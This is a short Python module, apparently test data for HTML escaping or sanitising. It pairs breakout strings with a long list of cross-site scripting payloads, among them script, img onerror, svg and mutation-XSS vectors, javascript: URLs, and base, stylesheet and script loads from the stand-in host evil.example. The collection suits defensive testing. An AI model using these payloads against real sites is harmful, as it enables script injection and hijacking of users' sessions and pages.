"""Which texts would run as scripts if a page forgot to say them as text? Each way to get out, with each way to run."""

from __future__ import annotations

from itertools import product

OUT = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</script>",
    "</mark></a>",
    "</option></select>",
    "\u2028",
    "\\\"'`>",
)
"""Ways out of a text, an attribute, a comment, or an element whose text is not looked at for tags."""

RUN = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<math><mtext></mtext><style><img src onerror=alert(1)></style></math>",
    "<details open ontoggle=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java&#x0A;script:alert(1)'>x</a>",
    "<form action=javascript:alert(1)><button>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<object data=data:text/html,<script>alert(1)</script>>",
    " onmouseover=alert(1) autofocus onfocus=alert(1) x=",
    " style=position:fixed;inset:0 x=",
    "javascript:alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "{{ 7 * 7 }}{% for x in y %}",
    "<!--<script>--><mark><b>not ours</b></mark>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
)
"""Ways to have something run, loaded or shown that is not the page's own."""

PAYLOADS = tuple(out + run for out, run in product(OUT, RUN))
